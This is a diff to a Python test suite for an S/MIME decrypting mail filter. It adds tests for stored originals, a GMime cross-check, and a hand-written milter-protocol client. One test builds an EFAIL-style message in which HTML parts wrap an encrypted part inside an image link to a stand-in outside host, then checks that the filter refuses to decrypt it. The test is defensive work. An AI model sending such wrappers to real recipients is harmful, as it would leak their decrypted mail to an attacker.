@@ -6,11 +6,13 @@ it stands in mailboxes only, and only in those of messages that were to be opene
 """
 
 import base64
+import json as jsonlib
 import os
 import re
-import shutil
 import signal
+import socket
 import statistics
+import struct
 import subprocess
 import sys
 import time
@@ -38,6 +40,8 @@ OAEP = ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256")
 
 
 class Decrypting(Outside):
+    reviewers = {login: outside.REVIEWERS[login] for login in ("rina", "wati")}
+
     def __init__(self, place):
         super().__init__(place)
         self.opening = []  # private keys of the agent's, for role inbound
@@ -188,10 +192,20 @@ def _(world):
         check(f"smime={result}" in outside.smime_result(parsed(delivered)[FIELD]), f"{what}: {parsed(delivered)[FIELD]}")
         record = world.record(token)
         equal((record["decrypt-cipher"], record["signature"]), (cipher, "good" if signer else ""), f"{what}: in the record")
+        clear_to_gmime(world, delivered, what)
         if signer:
             check(judged(world, delivered), f"{what}: openssl does not verify what was delivered")
             equal(record["decrypt-layers"], "encrypted/signed", what)
         equal(record["action"], "accept" if signer else "tag", f"{what}: action")
+
+
+def clear_to_gmime(world, delivered, what):
+    """Our own second reader: GMime and our scanner see the same parts (MIME_AMBIGUOUS otherwise)."""
+    path = world.path("ca", "delivered")
+    with open(path, "wb") as out:
+        out.write(delivered)
+    answer = world.segelctl("explain", "--role", "inbound", "--json", path)
+    equal(jsonlib.loads(answer.out)["mime"], "clear", f"{what}: {answer}")
 
 
 def judged(world, delivered):
@@ -240,6 +254,11 @@ def _(world):
     world.wait_idle()
     check(not any(b"kenari" in message for message in world.mta.delivered() if b"<rute.1@" in message), "%-hack: opened")
     equal(world.record("rute")["decrypted"], "no", "%-hack: in the record")
+    # An encrypted part of something else is nobody's whole message (EFAIL's direct exfiltration).
+    around = (b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/html\n\n<img src="http://luar.example/\n--b\n'
+              + world.encrypt(world.inside("gambar"), "umum").partition(b"\n")[2] + b'\n--b\nContent-Type: text/html\n\n">\n--b--\n')
+    [delivered] = world.passed("gambar", world.head(PARTNER, OWN, "gambar") + around)
+    check(b"kenari" not in delivered and world.record("gambar")["decrypted"] == "", "a part is opened")
     record = world.untouched("pribadi", world.letter("pribadi", "pribadi"))
     equal((record["action"], record["reason"]), ("accept", "ENC_UNREADABLE"), "a person's own")
 
@@ -329,7 +348,7 @@ def _(world):
     broken = tampered(world.letter("batas", "batas"), -20).replace(f"To: {OWN}".encode(), f"To: {BATAS}".encode())
     replies, took = [], []
     with world.session(port="server") as session:
-        for n in range(24):
+        for n in range(23):
             message = broken.replace(b"<batas.1@", f"<batas{n}.1@".encode())
             began = time.monotonic()
             outcome = session.send(PARTNER, [BATAS], message)
@@ -381,6 +400,7 @@ def _(world):
     equal(list(read.iter_attachments())[0].get_content(), bytes(range(256)), "the attachment")
     lines = b"".join(b"%07d %s\n" % (n, b"x" * 64) for n in range(70000))
     big = world.opened("besar", world.letter("besar", content=world.secret("besar") + lines))
+    clear_to_gmime(world, big, "5 MB")
     check(lines[-80:] in big and judged(world, big), "5 MB")
     with world.session(port="server") as session:
         session.mail("jos\u00e9@provinsi.example", ("SMTPUTF8", "BODY=8BITMIME"))
@@ -441,6 +461,95 @@ def _(world):
     world.write_config()
     world.reload()
     world.opened("nyala", world.letter("nyala"))
+
+
+@suite.test("originals: kept as they came, before they are delivered; not kept is not delivered; and not for ever")
+def _(world):
+    folder = world.path("state-inbound", "originals")
+
+    def originals():
+        return sorted(os.listdir(folder)) if os.path.isdir(folder) else []
+    try:
+        world.write_config(policy=f'decrypt: {{ use = true; keep_dir = "{folder}"; keep = "1h"; }};')
+        world.reload()
+        message = world.letter("asli")
+        world.opened("asli", message)
+        name, = originals()
+        with open(os.path.join(folder, name), "rb") as file:
+            kept = file.read()
+        check(kept == client.with_crlf(message), "not the bytes that came")
+        equal((os.stat(os.path.join(folder, name)).st_mode & 0o777, os.stat(folder).st_mode & 0o777), (0o600, 0o700), "who reads it")
+        check(f"original={name}" in world.filter_log("inbound"), "not in the record")
+        equal(world.arrive(OTHER, [OWN], world.unsigned(OTHER, OWN, "asli-polos")).accepted, True, "in clear")
+        equal(originals(), [name], "of mail that came in clear")
+        os.rename(folder, folder + ".away")
+        with open(folder, "w", encoding="ascii"):
+            pass
+        tried = world.letter("asli-2")
+        outcome = world.arrive(PARTNER, [OWN], tried)
+        check(outcome.last.says("451", "4.3.0", "STORE_UNAVAILABLE"), outcome)
+        os.unlink(folder)
+        os.rename(folder + ".away", folder)
+        world.opened("asli-2", tried)
+        equal(len(originals()), 2, "originals")
+        os.rename(os.path.join(folder, name), os.path.join(folder, f"{int(time.time()) - 3700}-{name.partition('-')[2]}"))
+        with open(os.path.join(folder, "1-catatan.txt"), "w", encoding="ascii"):
+            pass
+        world.milters["inbound"].stop()
+        world.start_milter("inbound")
+        deadline.until("the old one to go", lambda: len(originals()) == 2 and "1-catatan.txt" in originals())
+    finally:
+        world.write_config()
+        world.reload()
+
+
+@suite.test("an MTA that lets nobody change the envelope's parameters gets it as it came, and the log says why")
+def _(world):
+    message = client.with_crlf(world.letter("tanpa"))
+    for offers, opened in ((0x1FF, True), (0x1FF & ~CHGFROM, False)):
+        edits = by_milter(world.mta.sockets["inbound"], offers, PARTNER, OWN, message)
+        equal((b"kenari-tanpa" in edits.get(b"b", b""), b"e" in edits), (opened, opened), f"offering {offers:#x}: edits {sorted(edits)}")
+    check("so a bounce could carry what was decrypted; nothing is" in world.filter_log("inbound"), "the log does not say so")
+    world.clear.add("tanpa")
+
+
+CHGFROM = 0x40
+STEPS = 0x1FFFFF  # all that a filter may ask to be spared
+
+
+def by_milter(path, offers, sender, recipient, message):
+    """A mail server of ours, by the milter protocol: negotiates these actions, hands one message over. {command: its bytes} of the answer."""
+    with socket.socket(socket.AF_UNIX) as server:
+        server.connect(path)
+        stream = server.makefile("rb")
+
+        def say(command, data=b""):
+            server.sendall(struct.pack("!I", len(data) + 1) + command + data)
+
+        def hear():
+            [length] = struct.unpack("!I", stream.read(4))
+            return stream.read(1), stream.read(length - 1)
+        say(b"O", struct.pack("!III", 6, offers, STEPS))
+        equal(hear()[0], b"O", "negotiation")
+        say(b"C", b"luar.example\x004" + struct.pack("!H", 2525) + b"127.0.0.1\0")
+        say(b"D", b"Mi\0TANPA1\0{tls_version}\0TLSv1.3\0{cipher}\0TLS_AES_256_GCM_SHA384\0")
+        say(b"M", f"<{sender}>\0".encode())
+        equal(hear()[0], b"c", "MAIL")
+        say(b"D", f"R{{rcpt_addr}}\0{recipient}\0".encode())
+        say(b"R", f"<{recipient}>\0".encode())
+        head, _, body = message.partition(b"\r\n\r\n")
+        for field in re.split(rb"\r\n(?![ \t])", head):
+            name, _, value = field.partition(b":")
+            say(b"L", name + b"\0" + value.replace(b"\r\n", b"\n") + b"\0")
+        say(b"B", body)
+        say(b"E")
+        edits = {}
+        while True:
+            command, data = hear()
+            edits[command] = edits.get(command, b"") + data
+            if command in b"acrty":
+                say(b"Q")
+                return edits
 
 
 @suite.test("the word stands in the mailboxes it was meant for, and nowhere else on the disk")
